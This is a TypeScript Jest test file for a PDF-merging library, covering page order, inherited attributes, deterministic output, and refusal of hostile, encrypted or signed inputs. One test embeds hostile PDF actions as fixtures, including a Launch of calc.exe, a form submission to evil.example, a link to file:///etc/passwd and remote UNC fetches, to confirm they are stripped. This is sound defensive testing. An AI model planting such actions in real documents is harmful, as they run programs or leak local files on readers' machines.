import { describe, expect, it } from '@jest/globals';
import { cpuMsSince } from '@scriptorium/testing/cpu-time';
import { testInWhole } from '@scriptorium/testing/extent';
import { classicPdf, streamBody } from '@scriptorium/testing/fixtures/pdf/build';
import {
  formBodies,
  misdirected,
  onePage,
  packedPdf,
  plainPdf,
} from '@scriptorium/testing/fixtures/pdf/documents';
import { HOSTILE_PDFS } from '@scriptorium/testing/fixtures/pdf/hostile';
import { encryptedBy, encryptedPdf } from '@scriptorium/testing/fixtures/pdf/programs';
import { pdfText } from '@scriptorium/testing/judges/pdf';
import { pageSizes } from '@scriptorium/testing/pdf-reading';
import { JoinError } from '../../src/join/join-error.ts';
import { Joining } from '../../src/join/joining.ts';
import { Dict, PdfString, Ref } from '../../src/read/values.ts';
import { joined, joinedBytes, pagesOf, written } from './joined.ts';

/** A document whose page says this. */
export const saying = (text: string, pageKeys = ''): Buffer => {
  const bodies = [...onePage(pageKeys)];
  bodies[3] = streamBody('', Buffer.from(`BT /F1 12 Tf 50 500 Td (${text}) Tj ET`));
  return classicPdf(bodies);
};

describe('joined pages', () => {
  it('are all pages of all documents in order', async () => {
    const texts = Array.from({ length: 130 }, (_, index) => `Letter ${index}.`);
    const { bytes, pages } = await joined(texts.map((text) => ({ bytes: saying(text) })));
    expect(pages).toBe(130);
    expect(
      (await pdfText(bytes))
        .split(/\s*\f/)
        .slice(0, -1)
        .map((text) => text.trim()),
    ).toEqual(texts);
  });

  it('have the attributes that they inherited', async () => {
    const bytes = classicPdf([
      '<</Type/Catalog/Pages 2 0 R>>',
      '<</Type/Pages/Kids[3 0 R 6 0 R]/Count 2/MediaBox 7 0 R/Rotate 90/Resources<</Font<</F1 5 0 R>>>>>>',
      '<</Type/Pages/Parent 2 0 R/Kids[4 0 R]/Count 1/CropBox[0 0 300 200]>>',
      '<</Type/Page/Parent 3 0 R/Rotate 0>>',
      '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
      '<</Type/Page/Parent 2 0 R>>',
      '[0 0 400 600]',
    ]);
    const { bytes: result } = await joined([{ bytes: plainPdf() }, { bytes }]);
    expect(await pageSizes(result)).toEqual([
      { width: 400, height: 600 },
      { width: 300, height: 200 },
      { width: 600, height: 400 },
    ]);
  });

  it('are written alike from any kind of cross-reference data', () => {
    const [classic, packed, searched] = [plainPdf(), packedPdf(), misdirected(plainPdf())].map(
      (bytes) => joinedBytes([{ bytes }]).bytes,
    );
    expect(classic?.equals(packed ?? Buffer.alloc(0))).toBe(true);
    expect(classic?.equals(searched ?? Buffer.alloc(0))).toBe(true);
  });

  it('are the same bytes for the same documents, and have another ID for others', () => {
    const [a, b, c] = [
      ['x', 'y'],
      ['x', 'y'],
      ['x', 'z'],
    ].map((texts) => joinedBytes(texts.map((text) => ({ bytes: saying(text), title: 'Letter' }))).bytes);
    expect(a?.equals(b ?? Buffer.alloc(0))).toBe(true);
    const id = (bytes = Buffer.alloc(0)) => /\/ID\[<(\w{32})>/.exec(bytes.toString('latin1'))?.[1];
    expect(id(a)).toBeDefined();
    expect(id(a)).not.toBe(id(c));
  });

  it('stay separate where they are alike', async () => {
    const { document } = await joined([{ bytes: plainPdf() }, { bytes: plainPdf() }]);
    const pages = pagesOf(document);
    expect(new Set(pages.map(({ num }) => num)).size).toBe(2);
    const shared = pages.map((page) => {
      const value = document.object(page)?.value;
      return value instanceof Dict ? String(value.get('Contents')) : '';
    });
    expect(new Set(shared).size).toBe(1);
  });

  it('have no reference to pages that their document does not show', async () => {
    const orphan = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>';
    const bytes = classicPdf(onePage('/Extra[6 0 R 2 0 R 1 0 R 3 0 R]', '', [orphan]));
    const { document, at } = await joined([{ bytes }]);
    const extra = at('Pages', 'Kids', 0, 'Kids', 0, 'Extra') ?? at('Pages', 'Kids', 0, 'Extra');
    const [hidden, tree, catalog, self] = Array.isArray(extra) ? extra : [];
    expect([hidden, catalog]).toEqual([null, null]);
    expect(String(tree)).toBe(String(document.catalog.value.get('Pages')));
    expect(String(self)).toBe(String(pagesOf(document)[0]));
  });
});

/** What others must not believe, and joining does not read. */
const IN_ORDER = new Set([
  'a number of pages that is not an integer',
  'one object that is a page and the form',
]);

describe('joining', () => {
  const failure = (work: () => void): unknown => {
    try {
      work();
    } catch (error) {
      return error;
    }
    return undefined;
  };

  it.each(HOSTILE_PDFS)('refuses $name, with its place', ({ name, make, code }) => {
    const joining = new Joining({ bytesMax: 1e8 }, () => true);
    joining.add({ bytes: plainPdf() });
    const bytes = make();
    const start = process.cpuUsage();
    const error = failure(() => joining.add({ bytes }));
    expect(cpuMsSince(start)).toBeLessThan(20_000);
    if (IN_ORDER.has(name)) {
      expect(joining.finish().pages).toBe(2);
      return;
    }
    expect(error).toBeInstanceOf(JoinError);
    expect([code, 'DOCUMENT_SIGNED']).toContain((error as JoinError).code);
    expect((error as JoinError).document).toBe(1);
  });

  it.each([
    ['without a password', () => encryptedPdf()],
    ['with a password', () => encryptedBy(plainPdf(), { user: 'secret' })],
  ])('refuses a document that is encrypted %s', async (_, make) => {
    const joining = new Joining({ bytesMax: 1e8 }, () => true);
    joining.add({ bytes: plainPdf() });
    const bytes = await make();
    expect(failure(() => joining.add({ bytes }))).toMatchObject({ code: 'DOCUMENT_ENCRYPTED', document: 1 });
  });

  it.each([
    ['of a field', classicPdf(formBodies('/V<</Type/Sig/ByteRange[0 1 2 3]/Contents<00>>>'))],
    [
      'that a field inherits from its parent',
      classicPdf(
        onePage('', '/AcroForm<</Fields[6 0 R]>>', [
          '<</FT/Sig/T(a)/Kids[7 0 R]>>',
          '<</T(b)/Parent 6 0 R/V<</Type/Sig/Contents<00>>>>>',
        ]),
      ),
    ],
    [
      'that only a page lists',
      classicPdf(
        onePage('/Annots[6 0 R]', '', ['<</Subtype/Widget/FT/Sig/T(a)/V<</Contents<00>>>/Rect[0 0 9 9]>>']),
      ),
    ],
  ])('refuses the signature %s', (_, bytes) => {
    expect(failure(() => joinedBytes([{ bytes: plainPdf() }, { bytes }]))).toMatchObject({
      code: 'DOCUMENT_SIGNED',
      document: 1,
    });
  });

  it('refuses a result above its limit', () => {
    const inputs = Array.from({ length: 50 }, (_, index) => ({ bytes: saying(`Letter ${index}`) }));
    const { length } = joinedBytes(inputs).bytes;
    expect(joinedBytes(inputs, { bytesMax: length }).bytes.length).toBe(length);
    const error = failure(() => joinedBytes(inputs, { bytesMax: length - 1 }));
    expect(error).toMatchObject({ code: 'RESULT_TOO_LARGE', document: undefined });
  });

  it('refuses to go on after a failure, to end twice, and to join nothing', () => {
    const failed = new Joining({ bytesMax: 1e8 }, () => true);
    expect(failure(() => failed.add({ bytes: Buffer.from('no PDF') }))).toBeInstanceOf(JoinError);
    expect(failure(() => failed.add({ bytes: plainPdf() }))).toBeInstanceOf(Error);
    expect(failure(() => failed.finish())).toBeInstanceOf(Error);
    expect(failure(() => new Joining({ bytesMax: 1e8 }, () => true).finish())).toBeInstanceOf(JoinError);
  });

  it('refuses a page tree with a page twice, or without one of its pages', () => {
    for (const kids of ['3 0 R 3 0 R', '3 0 R 99 0 R', '3 0 R<</Type/Page>>']) {
      const [catalog, , ...rest] = onePage();
      const bytes = classicPdf([catalog ?? '', `<</Type/Pages/Kids[${kids}]/Count 2>>`, ...rest]);
      expect(failure(() => joinedBytes([{ bytes }]))).toMatchObject({
        code: 'INVALID_FILE_FORMAT',
        document: 0,
      });
    }
  });

  testInWhole('is linear in chains and circles of thirty thousand objects', async () => {
    const count = 30_000;
    const links = Array.from({ length: count }, (_, i) => `<</Next ${6 + ((i + 1) % count)} 0 R>>`);
    const chain = [...links.slice(0, -1), '<</Next null>>'];
    for (const objects of [links, chain]) {
      const bytes = classicPdf(onePage('/Extra 6 0 R', '', objects));
      const start = process.cpuUsage();
      const { pages } = joinedBytes([{ bytes }]);
      expect(pages).toBe(1);
      expect(cpuMsSince(start)).toBeLessThan(20_000);
    }
  });
});

describe('properties of the result', () => {
  const titled = (title: string): Buffer =>
    classicPdf(onePage('', '', [`<</Title(${title})>>`]), '/Info 6 0 R');

  it('have the title of the caller, or that of the first document', async () => {
    const both = ['First', 'Second'];
    const titles: [object, readonly (string | undefined)[], string | undefined][] = [
      [{}, both, 'First'],
      [{ title: 'Zoë & <co>' }, both, 'Zoë & <co>'],
      [{ titleIfNone: 'Spare' }, both, 'First'],
      [{ titleIfNone: 'Spare' }, [undefined, 'Second'], 'Spare'],
      [{ titleIfDifferent: 'All' }, both, 'All'],
      [{ titleIfDifferent: 'All' }, ['First', undefined], 'All'],
      [{ titleIfDifferent: 'All', titleIfNone: 'Spare' }, ['Same', 'Same'], 'Same'],
      [{ titleIfDifferent: 'All', titleIfNone: 'Spare' }, [undefined, undefined], 'Spare'],
      [{}, [undefined, 'Second'], undefined],
    ];
    for (const [options, own, expected] of titles) {
      const inputs = own.map((title) => ({ bytes: title === undefined ? plainPdf() : titled(title) }));
      const { document } = await joined(inputs, options);
      const info = document.dict(document.trailer, 'Info');
      const title = info && document.get(info, 'Title');
      expect([options, title instanceof PdfString ? title.text : undefined]).toEqual([options, expected]);
    }
  });

  it('contain no actions that start, send or fetch something, and warnings name them', async () => {
    const actions = [
      '<</S/Launch/F(calc.exe)>>',
      '<</S/JavaScript/JS(app.alert(1))>>',
      '<</S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>>>',
      '<</S/ImportData/F(x.fdf)>>',
      '<</S/URI/URI(file:///etc/passwd)>>',
      '<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)/D[0/Fit]>>',
      '<</S/Thread/F(\\\\\\\\evil\\\\x.pdf)/D 0>>',
      '<</S/GoToR/F<</UF(annex.pdf)/F(\\\\\\\\evil\\\\x.pdf)>>/D[0/Fit]>>',
      '<</S#2F/x/S/Launch/F(a)>>',
      '<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Launch/F(b)>>]>>',
    ];
    const links = actions.map((action) => `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A ${action}>>`);
    const widget = '<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/AA<</K<</S/JavaScript/JS(evil())>>>>>>';
    const bytes = classicPdf(onePage(`/Annots[${links.join('')}${widget}]/AA<</O ${actions[0]}>>`));
    const result = await joined([{ bytes }]);
    expect(result.warnings.map(({ code, document }) => [code, document])).toEqual([
      ['SCRIPTS_REMOVED', 0],
      ['ACTION_REMOVED', 0],
      ['LINK_REMOVED', 0],
    ]);
    expect(result.warnings[1]?.message).toContain('Launch, SubmitForm, ImportData, GoToR');
    expect(result.warnings[2]?.message).toContain('file:///etc/passwd');
    const { document } = result;
    const left = pagesOf(document).map((page) => written(document, page));
    expect(left.join('')).not.toMatch(/Launch|JavaScript|SubmitForm|ImportData|GoTo[RE]|file:|evil/);
    expect(left.join('')).toContain('/GoTo');
  });

  it('keep links to the web, to other files of the folder, and scripts that sum up fields', async () => {
    const kept = [
      '<</S/URI/URI(https://example.org/)>>',
      '<</S/URI/URI(annex.pdf)>>',
      '<</S/GoToR/F(annex.pdf)/D[0/Fit]>>',
      '<</S/JavaScript/JS(AFSimple_Calculate\\("SUM", new Array \\("a", "b"\\)\\);)>>',
      '<</S/JavaScript/JS(AFNumber_Format\\(2, 0, 0, 0, "", true\\);)>>',
    ];
    const links = kept.map((action) => `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A ${action}>>`);
    const { warnings, document } = await joined([
      { bytes: classicPdf(onePage(`/Annots[${links.join('')}]`)) },
    ]);
    expect(warnings).toEqual([]);
    const left = pagesOf(document)
      .map((page) => written(document, page))
      .join('');
    expect(left.match(/\/URI|\/GoToR|AFSimple_Calculate|AFNumber_Format/g)).toHaveLength(7);
  });

  it('contain no scripts of documents, and a warning', async () => {
    const script = '<</S/JavaScript/JS(app.alert(1))>>';
    const keys = `/OpenAction ${script}/AA<</WC ${script}>>/Names<</JavaScript<</Names[(a)${script}]>>>>`;
    const { at, warnings, document } = await joined([{ bytes: classicPdf(onePage('', keys)) }]);
    expect([at('OpenAction'), at('AA'), at('Names')]).toEqual([null, null, null]);
    expect(warnings).toMatchObject([{ code: 'SCRIPTS_REMOVED', document: 0 }]);
    expect(document.trailer.get('Root')).toBeInstanceOf(Ref);
  });
});
